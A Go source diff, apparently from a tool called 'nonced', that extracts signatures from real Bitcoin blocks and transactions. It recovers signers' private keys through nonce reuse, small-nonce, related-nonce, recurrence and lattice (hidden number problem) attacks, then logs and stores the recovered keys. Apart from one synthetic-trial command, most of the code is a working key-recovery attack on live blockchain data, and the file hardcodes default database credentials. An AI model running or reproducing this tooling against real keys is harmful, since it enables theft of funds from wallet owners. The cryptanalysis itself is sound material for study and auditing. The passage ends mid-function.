@@ -1,10 +1,14 @@
 package main
 
 import (
+	"crypto/rand"
 	"encoding/hex"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"github.com/btcsuite/btcd/chaincfg/chainhash"
+	"github.com/btcsuite/btcd/txscript"
+	"github.com/btcsuite/btcd/wire"
 	"github.com/btcsuite/btcutil"
 	"github.com/canselcik/nonced/internal/provider"
 	"github.com/canselcik/nonced/internal/realtime"
@@ -12,13 +16,20 @@ import (
 	"github.com/canselcik/nonced/internal/storage"
 	log "github.com/sirupsen/logrus"
 	"github.com/urfave/cli"
+	"math/big"
 	"os"
+	"sync"
+	"time"
 )
 
 func ProcessErrMap(txid string, errMap map[int]error) (warnCount, errCount int) {
 	for inputIdx, err := range errMap {
+		if _, ok := err.(*sighash.WarnVerifySkip); ok {
+			warnCount++
+			continue
+		}
 		switch err {
-		case sighash.WarnWitnessSkip:
+		case sighash.WarnWitnessSkip, sighash.WarnTemplateSkip:
 			warnCount++
 		default:
 			errCount++
@@ -32,6 +43,136 @@ func ProcessErrMap(txid string, errMap map[int]error) (warnCount, errCount int)
 	return
 }
 
+// LogRecovery logs a recovered key along with where the first two of the
+// signatures it was recovered from come from.
+func LogRecovery(rec *sighash.Recovery, fields log.Fields) {
+	if fields == nil {
+		fields = log.Fields{}
+	}
+	fields["method"] = rec.Method.String()
+	fields["hexEncoded"] = hex.EncodeToString(rec.Key.Serialize())
+	fields["verified"] = rec.Verified
+	fields["sigCount"] = len(rec.Pairs)
+	if rec.K != nil {
+		fields["k"] = hex.EncodeToString(rec.K.Bytes())
+	}
+	if rec.Candidate >= 0 {
+		fields["candidate"] = rec.Candidate
+	}
+	for i, pair := range rec.Pairs {
+		if i == 2 {
+			break
+		}
+		if i == 0 {
+			fields["pubkey"] = hex.EncodeToString(pair.PublicKey)
+		}
+		fields[fmt.Sprintf("source%d", i)] = fmt.Sprintf("%s:%d", pair.TxID, pair.InputIndex)
+		fields[fmt.Sprintf("script%d", i)] = pair.Template.String()
+		fields[fmt.Sprintf("sighash%d", i)] = fmt.Sprintf("%#x", uint32(pair.HashType))
+		if pair.Location != nil {
+			fields[fmt.Sprintf("block%d", i)] = pair.Location.BlockHash.String()
+			fields[fmt.Sprintf("height%d", i)] = pair.Location.BlockHeight
+		}
+	}
+	log.WithFields(fields).Info("Found private key")
+}
+
+func LogRecoveredNonces(nonces []*sighash.RecoveredNonce) {
+	for _, nonce := range nonces {
+		log.WithFields(log.Fields{
+			"r": hex.EncodeToString(nonce.R.Bytes()),
+			"k": hex.EncodeToString(nonce.K.Bytes()),
+		}).Info("Found nonce")
+	}
+}
+
+// LogUnexploitableReuse logs the nonces reused on the same message, which
+// reveal nothing about the key.
+func LogUnexploitableReuse(reuse []*sighash.DuplicateSig) {
+	for _, dup := range reuse {
+		log.WithFields(log.Fields{
+			"pubkey":  hex.EncodeToString(dup.Kept.PublicKey),
+			"r":       hex.EncodeToString(dup.Kept.R.Bytes()),
+			"sighash": fmt.Sprintf("%#x", dup.Kept.Z),
+			"source0": fmt.Sprintf("%s:%d", dup.Kept.TxID, dup.Kept.InputIndex),
+			"source1": fmt.Sprintf("%s:%d", dup.Dropped.TxID, dup.Dropped.InputIndex),
+		}).Info("Found nonce reuse on the same message, which is not exploitable")
+	}
+}
+
+func SolveRelatedNoncesForContext(c *cli.Context, bucket *sighash.SHPairBucket) {
+	search := sighash.RelatedNonceSearch{
+		MaxA: c.Int64("related-max-a"),
+		MaxB: c.Int64("related-max-b"),
+	}
+	if search.MaxA == 0 {
+		return
+	}
+	for _, result := range bucket.SolveRelatedNonces(search) {
+		rec := sighash.NewRecovery(sighash.RecoveryRelatedNonce, result.Key, result.Pairs...)
+		LogRecovery(rec, log.Fields{
+			"a": result.Relation.A.String(),
+			"b": result.Relation.B.String(),
+		})
+	}
+}
+
+func SolveNonceRecurrencesForContext(c *cli.Context, bucket *sighash.SHPairBucket) {
+	search := sighash.NonceRecurrenceSearch{MaxDegree: c.Int("recurrence-max-degree")}
+	if search.MaxDegree == 0 {
+		return
+	}
+	for _, result := range bucket.SolveNonceRecurrences(search) {
+		rec := sighash.NewRecovery(sighash.RecoveryNonceRecurrence, result.Key, result.Pairs...)
+		LogRecovery(rec, log.Fields{"degree": result.Degree})
+	}
+}
+
+func GetSmallNonceSearchForContext(c *cli.Context) (sighash.SmallNonceSearch, error) {
+	search := sighash.SmallNonceSearch{BoundBits: uint(c.Int("small-nonce-bits"))}
+	if search.BoundBits == 0 {
+		return search, nil
+	}
+	size := uint32(c.Int("small-nonce-table-size"))
+	if path := c.String("small-nonce-table"); len(path) != 0 {
+		table, err := sighash.LoadSmallNonceTable(path, size)
+		if err != nil {
+			return search, err
+		}
+		search.Table = table
+	} else {
+		search.Table = sighash.NewSmallNonceTable(size)
+	}
+	if max := search.Table.MaxBoundBits(); search.BoundBits > max {
+		return search, fmt.Errorf("%s: --small-nonce-bits can be at most %d with %d baby steps",
+			sighash.ErrSmallNonceBound, max, size)
+	}
+	return search, nil
+}
+
+// LogExtractionCounts logs the templates of the inputs the bucket went
+// through so far, and how the signatures of a strict bucket verified.
+func LogExtractionCounts(bucket *sighash.SHPairBucket) {
+	templateFields := log.Fields{}
+	for template, count := range bucket.TemplateCounts {
+		templateFields[template.String()] = count
+	}
+	log.WithFields(templateFields).Infoln("Input prevOut templates")
+	if bucket.Strict {
+		verifyFields := log.Fields{}
+		for result, count := range bucket.VerifyCounts {
+			verifyFields[result.String()] = count
+		}
+		log.WithFields(verifyFields).Infoln("Signature verification outcomes")
+	}
+}
+
+func LogSmallNonces(results []*sighash.SmallNonceResult) {
+	for _, result := range results {
+		LogRecovery(sighash.NewRecovery(sighash.RecoveryKnownNonce, result.Key, result.Pair), nil)
+	}
+}
+
 func QueryLocalHeight(c *cli.Context) error {
 	var ds provider.DataProvider
 	if c.GlobalBool("insight") {
@@ -64,7 +205,11 @@ func NonceReuseFromTx(c *cli.Context) error {
 		ds = GetBitcoindProviderForContext(c)
 	}
 
-	solveBucket := sighash.NewSHPairBucket(ds)
+	solveBucket := GetSHPairBucketForContext(c, ds)
+	smallNonceSearch, err := GetSmallNonceSearchForContext(c)
+	if err != nil {
+		return err
+	}
 
 	hash, err := chainhash.NewHashFromStr(txid)
 	if err != nil {
@@ -78,19 +223,42 @@ func NonceReuseFromTx(c *cli.Context) error {
 		return fmt.Errorf("unable to find the transaction with id: %s", txid)
 	}
 
+	index, err := GetIndexForContext(c)
+	if err != nil {
+		return err
+	}
+	defer CloseIndex(c, index)
+	db, err := GetDBForContext(c)
+	if err != nil {
+		return err
+	}
+
 	sigCount, errMap := solveBucket.AddTx(tx.MsgTx())
 	_, _ = ProcessErrMap(txid, errMap)
-	if sigCount < 2 {
+	LogExtractionCounts(solveBucket)
+	if err := CollideWithIndex(index, solveBucket, solveBucket.PairsForTx(*hash)); err != nil {
+		return err
+	}
+	LogSmallNonces(solveBucket.SolveSmallNonces(smallNonceSearch))
+	// Signatures from the index may pair up with a single one from the txn
+	if sigCount < 2 && solveBucket.Len() < 2 {
 		return fmt.Errorf("given transaction yielded fewer than 2 signatures")
 	}
 
-	solutions := solveBucket.Solve()
+	solutions, nonces := solveBucket.Solve()
+	solutions, nonces, err = PropagateFromStorage(solveBucket, solutions, nonces, db, index)
+	if err != nil {
+		return err
+	}
 	log.Println("Extracted", len(solutions), "private key(s)")
-	for _, priv := range solutions {
-		serialized := priv.Serialize()
-		log.WithField("hexEncoded", hex.EncodeToString(serialized)).
-			Info("Found private key")
+	for _, rec := range solutions {
+		LogRecovery(rec, nil)
 	}
+	RecordRecoveries(solutions, db, index)
+	LogRecoveredNonces(nonces)
+	LogUnexploitableReuse(solveBucket.UnexploitableReuse)
+	SolveRelatedNoncesForContext(c, solveBucket)
+	SolveNonceRecurrencesForContext(c, solveBucket)
 	return nil
 }
 
@@ -113,54 +281,403 @@ func NonceReuseFromBlockTxs(c *cli.Context) error {
 		ds = GetBitcoindProviderForContext(c)
 	}
 
+	smallNonceSearch, err := GetSmallNonceSearchForContext(c)
+	if err != nil {
+		return err
+	}
+
 	block, err := ds.GetBlock(id)
-	if block == nil {
+	if err != nil {
 		return fmt.Errorf("unable to find the block with id %s due to error: %s", blockId, err.Error())
 	}
+	if block == nil {
+		return fmt.Errorf("unable to find the block with id %s", blockId)
+	}
+
+	index, err := GetIndexForContext(c)
+	if err != nil {
+		return err
+	}
+	defer CloseIndex(c, index)
+	db, err := GetDBForContext(c)
+	if err != nil {
+		return err
+	}
 
 	skipped, ok, parseErr := 0, 0, 0
-	solveBucket := sighash.NewSHPairBucket(ds)
-	for i, tx := range block.Transactions {
+	solveBucket := GetSHPairBucketForContext(c, ds)
+	solveBucket.OnRecovery = func(rec *sighash.Recovery) {
+		LogRecovery(rec, nil)
+	}
+	locations := sighash.BlockTxLocations(block)
+
+	// Transactions are extracted by a pool of workers, the prevOut lookups
+	// being what takes time
+	workers := c.Int("workers")
+	if workers < 1 {
+		workers = 1
+	}
+	var countsLock sync.Mutex
+	var wg sync.WaitGroup
+	txIndexes := make(chan int)
+	for w := 0; w < workers; w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := range txIndexes {
+				tx := block.Transactions[i]
+				extracted, errMap := solveBucket.AddMinedTx(tx, locations[i])
+				warnCount, errCount := ProcessErrMap(tx.TxHash().String(), errMap)
+				countsLock.Lock()
+				if warnCount+errCount == 0 {
+					ok++
+				}
+				skipped += warnCount
+				countsLock.Unlock()
+				log.WithFields(log.Fields{
+					"txid":           tx.TxHash(),
+					"yieldedSHPairs": extracted,
+				}).Debugln("Done processing transaction")
+			}
+		}()
+	}
+	for i := range block.Transactions {
+		txIndexes <- i
+	}
+	close(txIndexes)
+	wg.Wait()
+	if err := CollideWithIndex(index, solveBucket, append([]*sighash.SHPair(nil), solveBucket.Pairs...)); err != nil {
+		return err
+	}
+
+	log.WithFields(log.Fields{
+		"hash":           blockId,
+		"parseErrTxns":   parseErr,
+		"skippedInputs":  skipped,
+		"okTxns":         ok,
+		"txnCount":       len(block.Transactions),
+		"yieldedSHPairs": len(solveBucket.Pairs),
+	}).Infoln("Done processing block")
+
+	LogExtractionCounts(solveBucket)
+	LogSmallNonces(solveBucket.SolveSmallNonces(smallNonceSearch))
+
+	// Keys from nonce reuse were logged as they were found
+	solutions, nonces := solveBucket.Solve()
+	solutions, nonces, err = PropagateFromStorage(solveBucket, solutions, nonces, db, index)
+	if err != nil {
+		return err
+	}
+	log.WithField("solutionCount", len(solutions)).Infoln("Done processing SHPairs")
+	for _, rec := range solutions {
+		if rec.Method != sighash.RecoveryNonceReuse {
+			LogRecovery(rec, nil)
+		}
+	}
+	RecordRecoveries(solutions, db, index)
+	LogRecoveredNonces(nonces)
+	LogUnexploitableReuse(solveBucket.UnexploitableReuse)
+	SolveRelatedNoncesForContext(c, solveBucket)
+	SolveNonceRecurrencesForContext(c, solveBucket)
+	return nil
+}
+
+func HNPSynthetic(c *cli.Context) error {
+	kind, err := sighash.ParseBiasKind(c.String("model"))
+	if err != nil {
+		return err
+	}
+	model := sighash.BiasModel{Kind: kind, Bits: c.Int("bits")}
+	opts := sighash.HNPOptions{BlockSize: c.Int("blocksize"), MaxTours: c.Int("tours")}
+
+	sigCounts := c.IntSlice("sigs")
+	if len(sigCounts) == 0 {
+		return errors.New("--sigs parameter is required")
+	}
+	results, err := sighash.RunSyntheticHNP(model, sigCounts, c.Int("trials"), opts, rand.Reader)
+	if err == sighash.ErrBiasModel {
+		return fmt.Errorf("%s: --bits needs to be between 1 and 255", err.Error())
+	}
+	if err != nil {
+		return err
+	}
+	for _, result := range results {
+		log.WithFields(log.Fields{
+			"model":     model.Kind.String(),
+			"bits":      model.Bits,
+			"sigs":      result.Sigs,
+			"trials":    result.Trials,
+			"successes": result.Successes,
+		}).Info("Done with synthetic HNP trials")
+	}
+	return nil
+}
+
+func HNPFromBlocks(c *cli.Context) error {
+	blockIds := c.StringSlice("id")
+	if len(blockIds) == 0 && !c.Bool("db") && len(c.String("index")) == 0 {
+		return errors.New("--id parameter is required unless signatures come from --db or --index")
+	}
+	pubKey, err := hex.DecodeString(c.String("pubkey"))
+	if err != nil || len(pubKey) == 0 {
+		return errors.New("--pubkey parameter needs to be a hex-encoded public key")
+	}
+	kind, err := sighash.ParseBiasKind(c.String("model"))
+	if err != nil {
+		return err
+	}
+	model := sighash.BiasModel{Kind: kind, Bits: c.Int("bits")}
+	for _, known := range c.StringSlice("known") {
+		value, ok := new(big.Int).SetString(known, 16)
+		if !ok {
+			return fmt.Errorf("failed to parse known nonce bits: %s", known)
+		}
+		model.Known = append(model.Known, value)
+	}
+
+	solveBucket, err := GetSHPairBucketForBlocks(c, blockIds)
+	if err != nil {
+		return err
+	}
+	if err := AddStoredPairs(c, solveBucket, [][]byte{pubKey}); err != nil {
+		return err
+	}
+
+	pairs := solveBucket.PairsForKey(pubKey)
+	log.WithFields(log.Fields{
+		"pubkey":   c.String("pubkey"),
+		"sigCount": len(pairs),
+	}).Infoln("Collected signatures")
+
+	opts := sighash.HNPOptions{BlockSize: c.Int("blocksize"), MaxTours: c.Int("tours")}
+	priv, err := sighash.SolveHNP(pairs, model, opts)
+	if err != nil {
+		return err
+	}
+	LogRecovery(sighash.NewRecovery(sighash.RecoveryLattice, priv, pairs...), log.Fields{
+		"model": model.Kind.String(),
+		"bits":  model.Bits,
+	})
+	return nil
+}
+
+// GetStoresForContext opens the database and the index given with --db and
+// --index, returning along with them the index to close once done.
+func GetStoresForContext(c *cli.Context) ([]storage.Storage, storage.CollisionStorage, error) {
+	stores := make([]storage.Storage, 0, 2)
+	if c.Bool("db") {
+		db, err := GetDBForContext(c)
 		if err != nil {
-			log.WithFields(log.Fields{
-				"txidx":     i,
-				"blockhash": tx.TxHash(),
-				"err":       err,
-			}).Warn("Failed to serialize transaction")
-			parseErr++
-			continue
+			return nil, nil, err
 		}
+		stores = append(stores, db)
+	}
+	index, err := GetIndexForContext(c)
+	if err != nil {
+		return nil, nil, err
+	}
+	if index != nil {
+		stores = append(stores, index)
+	}
+	return stores, index, nil
+}
 
-		extracted, errMap := solveBucket.AddTx(tx)
-		warnCount, errCount := ProcessErrMap(tx.TxHash().String(), errMap)
-		if warnCount+errCount == 0 {
-			ok++
+// AddStoredPairs adds the signatures of the keys kept in the database and the
+// index, when given, to the bucket. Every stored key is added when pubKeys is
+// nil.
+func AddStoredPairs(c *cli.Context, bucket *sighash.SHPairBucket, pubKeys [][]byte) error {
+	stores, index, err := GetStoresForContext(c)
+	if err != nil {
+		return err
+	}
+	defer CloseIndex(c, index)
+
+	pairs := make([]*sighash.SHPair, 0)
+	addEntry := func(entry *storage.Entry) error {
+		pairs = append(pairs, PairFromEntry(entry))
+		return nil
+	}
+	for _, store := range stores {
+		var err error
+		if pubKeys == nil {
+			err = store.ForEachPubKey(func(pubKey []byte) error {
+				return store.ForEachEntry(pubKey, addEntry)
+			})
 		}
-		skipped += warnCount
-		log.WithFields(log.Fields{
-			"txid":           tx.TxHash(),
-			"yieldedSHPairs": extracted,
-		}).Debugln("Done processing transaction")
+		for _, pubKey := range pubKeys {
+			if err = store.ForEachEntry(pubKey, addEntry); err != nil {
+				break
+			}
+		}
+		if err != nil {
+			return err
+		}
+	}
+	if len(pairs) != 0 {
+		log.WithField("count", bucket.AddPairs(pairs...)).Infoln("Added stored signatures")
+	}
+	return nil
+}
+
+// AnalyzeBiasFromBlocks ranks the keys of the signatures in the given blocks,
+// and of all those stored in the database and the index when given.
+func AnalyzeBiasFromBlocks(c *cli.Context) error {
+	blockIds := c.StringSlice("id")
+	if len(blockIds) == 0 && !c.Bool("db") && len(c.String("index")) == 0 {
+		return errors.New("--id parameter is required unless signatures come from --db or --index")
+	}
+	solveBucket, err := GetSHPairBucketForBlocks(c, blockIds)
+	if err != nil {
+		return err
+	}
+	if err := AddStoredPairs(c, solveBucket, nil); err != nil {
+		return err
 	}
 
+	report := solveBucket.AnalyzeBias(c.Int("min-sigs"))
 	log.WithFields(log.Fields{
-		"hash":               blockId,
-		"parseErrTxns":       parseErr,
-		"skippedWitnessTxns": skipped,
-		"okTxns":             ok,
-		"txnCount":           len(block.Transactions),
-		"yieldedSHPairs":     len(solveBucket.Pairs),
-	}).Infoln("Done processing block")
+		"sigCount":      report.SigCount,
+		"keyCount":      report.KeyCount,
+		"analyzedCount": len(report.Keys),
+	}).Infoln("Done analyzing signatures")
 
-	solutions := solveBucket.Solve()
-	log.WithField("solutionCount", len(solutions)).Infoln("Done processing SHPairs")
-	for i, priv := range solutions {
-		serialized := priv.Serialize()
-		log.Infof("\tHex Encoded Private Key %d: %s\n", i, hex.EncodeToString(serialized))
+	out := os.Stdout
+	if path := c.String("out"); len(path) != 0 {
+		f, err := os.Create(path)
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		out = f
+	}
+	encoder := json.NewEncoder(out)
+	encoder.SetIndent("", "  ")
+	return encoder.Encode(report)
+}
+
+// SolveStoredCollisions solves the R values stored with more than one Z,
+// under any pubkey, propagating what they give away to the rest of the stored
+// signatures and recording the keys.
+func SolveStoredCollisions(c *cli.Context) error {
+	stores, index, err := GetStoresForContext(c)
+	if err != nil {
+		return err
+	}
+	defer CloseIndex(c, index)
+	if len(stores) == 0 {
+		return errors.New("--db or --index parameter is required")
+	}
+
+	bucket := sighash.NewSHPairBucket(nil)
+	for _, store := range stores {
+		collisions, err := store.FindCollisions()
+		if err != nil {
+			return err
+		}
+		for _, collision := range collisions {
+			pubkeys := make(map[string]bool)
+			pairs := make([]*sighash.SHPair, 0, len(collision.Entries))
+			for _, entry := range collision.Entries {
+				pubkeys[string(entry.PubKey)] = true
+				pairs = append(pairs, PairFromEntry(entry))
+			}
+			log.WithFields(log.Fields{
+				"r":           hex.EncodeToString(collision.R),
+				"sigCount":    len(collision.Entries),
+				"pubkeyCount": len(pubkeys),
+			}).Infoln("Found stored signatures sharing R")
+			bucket.AddPairs(pairs...)
+		}
+	}
+
+	solutions, nonces := bucket.Solve()
+	solutions, nonces, err = PropagateFromStorage(bucket, solutions, nonces, stores...)
+	if err != nil {
+		return err
+	}
+	log.WithField("solutionCount", len(solutions)).Infoln("Done solving stored collisions")
+	for _, rec := range solutions {
+		LogRecovery(rec, nil)
+	}
+	LogRecoveredNonces(nonces)
+	LogUnexploitableReuse(bucket.UnexploitableReuse)
+	RecordRecoveries(solutions, stores...)
+	return nil
+}
+
+// ListStoredRecoveries logs the keys recorded in the database and the index.
+func ListStoredRecoveries(c *cli.Context) error {
+	stores, index, err := GetStoresForContext(c)
+	if err != nil {
+		return err
+	}
+	defer CloseIndex(c, index)
+	if len(stores) == 0 {
+		return errors.New("--db or --index parameter is required")
+	}
+
+	for _, store := range stores {
+		recs, err := store.Recoveries()
+		if err != nil {
+			return err
+		}
+		for _, rec := range recs {
+			log.WithFields(log.Fields{
+				"pubkey":     hex.EncodeToString(rec.PubKey),
+				"hexEncoded": hex.EncodeToString(rec.PrivKey),
+				"method":     rec.Method,
+				"r":          hex.EncodeToString(rec.R),
+				"k":          hex.EncodeToString(rec.Nonce),
+				"sources":    rec.SrcTxns,
+				"verified":   rec.Verified,
+				"foundAt":    rec.FoundAt,
+			}).Infoln("Recorded private key")
+		}
 	}
 	return nil
 }
 
+// GetSHPairBucketForBlocks extracts the signatures of every transaction of
+// the given blocks, in the order the blocks are given.
+func GetSHPairBucketForBlocks(c *cli.Context, blockIds []string) (*sighash.SHPairBucket, error) {
+	var ds provider.DataProvider
+	if c.GlobalBool("insight") {
+		ds = provider.NewInsightProvider()
+		log.Info("Using Insight as DataProvider")
+	} else {
+		ds = GetBitcoindProviderForContext(c)
+	}
+
+	index, err := GetIndexForContext(c)
+	if err != nil {
+		return nil, err
+	}
+	defer CloseIndex(c, index)
+
+	solveBucket := GetSHPairBucketForContext(c, ds)
+	for _, blockId := range blockIds {
+		id, err := chainhash.NewHashFromStr(blockId)
+		if err != nil {
+			return nil, fmt.Errorf("failed to parse block hash: %s", err.Error())
+		}
+		block, err := ds.GetBlock(id)
+		if err != nil {
+			return nil, fmt.Errorf("unable to find the block with id %s due to error: %s", blockId, err.Error())
+		}
+		if block == nil {
+			return nil, fmt.Errorf("unable to find the block with id %s", blockId)
+		}
+		locations := sighash.BlockTxLocations(block)
+		for i, tx := range block.Transactions {
+			solveBucket.AddMinedTx(tx, locations[i])
+			if err := CollideWithIndex(index, solveBucket, solveBucket.PairsForTx(tx.TxHash())); err != nil {
+				return nil, err
+			}
+		}
+	}
+	return solveBucket, nil
+}
+
 func GetBitcoindProviderForContext(c *cli.Context) provider.DataProvider {
 	btcd_addr := c.GlobalString("bitcoind-addr")
 	btcd_user := c.GlobalString("bitcoind-user")
@@ -174,6 +691,331 @@ func GetBitcoindProviderForContext(c *cli.Context) provider.DataProvider {
 	return provider.NewBtcdProvider(btcd_addr, btcd_user, btcd_pass, true, true)
 }
 
+// GetIndexForContext opens the signature index given with --index, nil if
+// there is none, putting the R value filter given with --filter in front of
+// it. The filter is rebuilt from the index when missing or asked to.
+func GetIndexForContext(c *cli.Context) (storage.CollisionStorage, error) {
+	path := c.String("index")
+	if len(path) == 0 {
+		return nil, nil
+	}
+	index, err := storage.NewBoltStorage(path)
+	if err != nil {
+		return nil, fmt.Errorf("failed to open the signature index: %s", err.Error())
+	}
+	log.Infof("Using the signature index at %s", path)
+
+	filterPath := c.String("filter")
+	if len(filterPath) == 0 {
+		return index, nil
+	}
+	// A filter the index moved on from, having been written without it or
+	// after it was last saved, would miss R values
+	filter, err := storage.LoadBloomFilter(filterPath)
+	if err == nil {
+		generation, err := index.Generation()
+		if err != nil {
+			index.Close()
+			return nil, err
+		}
+		if filter.Generation() != generation {
+			log.WithFields(log.Fields{
+				"filterGeneration": filter.Generation(),
+				"indexGeneration":  generation,
+			}).Warnln("The R value filter is out of sync with the signature index")
+			filter = nil
+		}
+	}
+	if filter == nil || c.Bool("filter-rebuild") {
+		log.WithFields(log.Fields{
+			"path":     filterPath,
+			"capacity": c.Int64("filter-size"),
+			"fpRate":   c.Float64("filter-fp"),
+		}).Infoln("Rebuilding the R value filter from the signature index")
+		filter, err = storage.RebuildBloomFilter(index, uint64(c.Int64("filter-size")), c.Float64("filter-fp"))
+		if err != nil {
+			index.Close()
+			return nil, fmt.Errorf("failed to rebuild the R value filter: %s", err.Error())
+		}
+	}
+	return storage.NewFilteredStorage(index, filter), nil
+}
+
+// LogIndexStats logs how well the R value filter in front of the index is
+// doing, if there is one.
+func LogIndexStats(index storage.CollisionStorage) {
+	filtered, ok := index.(*storage.FilteredStorage)
+	if !ok {
+		return
+	}
+	stats := filtered.Stats()
+	log.WithFields(log.Fields{
+		"filterBits":     filtered.Filter.Bits(),
+		"filterHashes":   filtered.Filter.Hashes(),
+		"filterCount":    filtered.Filter.Count(),
+		"estimatedFP":    filtered.Filter.FalsePositiveRate(),
+		"hits":           stats.Hits,
+		"misses":         stats.Misses,
+		"falsePositives": stats.FalsePositives,
+	}).Infoln("R value filter stats")
+}
+
+// SaveIndexFilter saves the R value filter in front of the index, if there is
+// one, so that it does not have to be rebuilt on the next run.
+func SaveIndexFilter(c *cli.Context, index storage.CollisionStorage) {
+	filtered, ok := index.(*storage.FilteredStorage)
+	if !ok {
+		return
+	}
+	if err := filtered.Save(c.String("filter")); err != nil {
+		log.WithField("err", err).Errorln("Failed to save the R value filter")
+	}
+}
+
+// CloseIndex saves the filter of the index and closes it.
+func CloseIndex(c *cli.Context, index storage.CollisionStorage) {
+	if index == nil {
+		return
+	}
+	LogIndexStats(index)
+	SaveIndexFilter(c, index)
+	index.Close()
+}
+
+// PairFromEntry turns a stored signature back into an SHPair, Schnorr ones
+// being told apart by their x-only pubkey, along with the input and block it
+// came from as far as they are known. ECDSA ones are brought to low S like
+// extracted ones, as rows stored before may not be.
+func PairFromEntry(entry *storage.Entry) *sighash.SHPair {
+	pair := &sighash.SHPair{
+		PublicKey:  entry.PubKey,
+		R:          new(big.Int).SetBytes(entry.R),
+		S:          new(big.Int).SetBytes(entry.S),
+		Z:          entry.Z,
+		InputIndex: entry.InputIndex,
+	}
+	if len(entry.PubKey) == 32 {
+		pair.Type = sighash.SigTypeSchnorr
+	}
+	if txid, err := chainhash.NewHashFromStr(entry.SrcTxn); err == nil {
+		pair.TxID = *txid
+	}
+	if entry.InputIndex >= 0 {
+		pair.HashType = txscript.SigHashType(entry.HashType)
+	}
+	if hash, err := chainhash.NewHashFromStr(entry.BlockHash); err == nil && len(entry.BlockHash) != 0 {
+		pair.Location = &sighash.TxLocation{
+			BlockHash:   *hash,
+			BlockHeight: entry.BlockHeight,
+			TxIndex:     entry.TxIndex,
+		}
+	}
+	pair.Canonicalize()
+	return pair
+}
+
+// EntryFromPair turns an SHPair into a signature to store, along with the
+// input and block it came from.
+func EntryFromPair(pair *sighash.SHPair) *storage.Entry {
+	entry := &storage.Entry{
+		SrcTxn:      pair.TxID.String(),
+		PubKey:      pair.PublicKey,
+		Z:           pair.Z,
+		R:           pair.R.Bytes(),
+		S:           pair.S.Bytes(),
+		InputIndex:  pair.InputIndex,
+		HashType:    uint32(pair.HashType),
+		ScriptType:  pair.Template.String(),
+		BlockHeight: -1,
+		TxIndex:     -1,
+	}
+	if pair.Location != nil {
+		entry.BlockHash = pair.Location.BlockHash.String()
+		entry.BlockHeight = pair.Location.BlockHeight
+		entry.TxIndex = pair.Location.TxIndex
+	}
+	return entry
+}
+
+// CollideWithIndex stores pairs in the index in a single batch, adding the
+// past signatures sharing their R values to the bucket so that reuse across
+// runs is caught.
+func CollideWithIndex(index storage.CollisionStorage, bucket *sighash.SHPairBucket, pairs []*sighash.SHPair) error {
+	if index == nil {
+		return nil
+	}
+	entries := make([]*storage.Entry, 0, len(pairs))
+	for _, pair := range pairs {
+		if pair.Z != nil {
+			entries = append(entries, EntryFromPair(pair))
+		}
+	}
+	if len(entries) == 0 {
+		return nil
+	}
+	collisions, err := index.PutAndCollideBatch(entries)
+	if err != nil {
+		return err
+	}
+	historic := make([]*sighash.SHPair, 0)
+	for _, found := range collisions {
+		for _, entry := range found {
+			historic = append(historic, PairFromEntry(entry))
+		}
+	}
+	if len(historic) != 0 {
+		log.WithField("count", len(historic)).Infoln("Found indexed signatures sharing R values")
+		bucket.AddPairs(historic...)
+	}
+	return nil
+}
+
+// GetDBForContext connects to the database when --db is given, returning a
+// NullStorage otherwise.
+func GetDBForContext(c *cli.Context) (storage.Storage, error) {
+	if !c.Bool("db") {
+		return storage.NewNullStorage(), nil
+	}
+	st, err := storage.NewPostgresStorage("localhost", 5432,
+		"postgres", "postgres", "postgres")
+	if err != nil {
+		return nil, err
+	}
+	log.Infof("DB enabled!")
+	return st, nil
+}
+
+// RecoveredKeyFromRecovery turns a Recovery into what Storage records of it.
+func RecoveredKeyFromRecovery(rec *sighash.Recovery) *storage.RecoveredKey {
+	stored := &storage.RecoveredKey{
+		PrivKey:  rec.Key.Serialize(),
+		Method:   rec.Method.String(),
+		SrcTxns:  make([]string, 0, len(rec.Pairs)),
+		Verified: rec.Verified,
+	}
+	if rec.K != nil {
+		stored.Nonce = rec.K.Bytes()
+	}
+	for i, pair := range rec.Pairs {
+		if i == 0 {
+			stored.PubKey = pair.PublicKey
+			stored.R = pair.R.Bytes()
+		}
+		stored.SrcTxns = append(stored.SrcTxns, pair.TxID.String())
+	}
+	return stored
+}
+
+// RecordRecoveries records recovered keys in every store given, skipping nil
+// ones. Failing to record a key is logged rather than fatal, as it is logged
+// anyway.
+func RecordRecoveries(recs []*sighash.Recovery, stores ...storage.Storage) {
+	for _, store := range stores {
+		if store == nil {
+			continue
+		}
+		for _, rec := range recs {
+			if err := store.PutRecovery(RecoveredKeyFromRecovery(rec)); err != nil {
+				log.WithField("err", err).Errorln("Failed to record recovered key")
+			}
+		}
+	}
+}
+
+// PropagateFromStorage pulls the stored signatures sharing R values with
+// recovered nonces, or made by recovered keys, into the bucket and solves it
+// again, until the stores have nothing new to give. Nil stores are skipped.
+func PropagateFromStorage(bucket *sighash.SHPairBucket, solutions []*sighash.Recovery,
+	nonces []*sighash.RecoveredNonce, stores ...storage.Storage) ([]*sighash.Recovery, []*sighash.RecoveredNonce, error) {
+	seenR := make(map[string]bool)
+	seenKeys := make(map[string]bool)
+	for {
+		pulled := make([]*sighash.SHPair, 0)
+		pull := func(entry *storage.Entry) error {
+			pulled = append(pulled, PairFromEntry(entry))
+			return nil
+		}
+		for _, store := range stores {
+			if store == nil {
+				continue
+			}
+			for _, nonce := range nonces {
+				if seenR[string(nonce.R.Bytes())] {
+					continue
+				}
+				entries, err := store.FindByR(nonce.R.Bytes())
+				if err != nil {
+					return nil, nil, err
+				}
+				for _, entry := range entries {
+					pull(entry)
+				}
+			}
+			for _, rec := range solutions {
+				if len(rec.Pairs) == 0 || seenKeys[string(rec.Pairs[0].PublicKey)] {
+					continue
+				}
+				if err := store.ForEachEntry(rec.Pairs[0].PublicKey, pull); err != nil {
+					return nil, nil, err
+				}
+			}
+		}
+		for _, nonce := range nonces {
+			seenR[string(nonce.R.Bytes())] = true
+		}
+		for _, rec := range solutions {
+			if len(rec.Pairs) != 0 {
+				seenKeys[string(rec.Pairs[0].PublicKey)] = true
+			}
+		}
+
+		if len(pulled) == 0 || bucket.AddPairs(pulled...) == 0 {
+			return solutions, nonces, nil
+		}
+		log.WithField("count", len(pulled)).Infoln("Propagating to stored signatures")
+		solutions, nonces = bucket.Solve()
+	}
+}
+
+// MigrateDB brings the database schema up to date.
+func MigrateDB(c *cli.Context) error {
+	db, err := storage.OpenPostgresStorage("localhost", 5432,
+		"postgres", "postgres", "postgres")
+	if err != nil {
+		return err
+	}
+	defer db.Close()
+
+	applied, err := db.Migrate()
+	for _, migration := range applied {
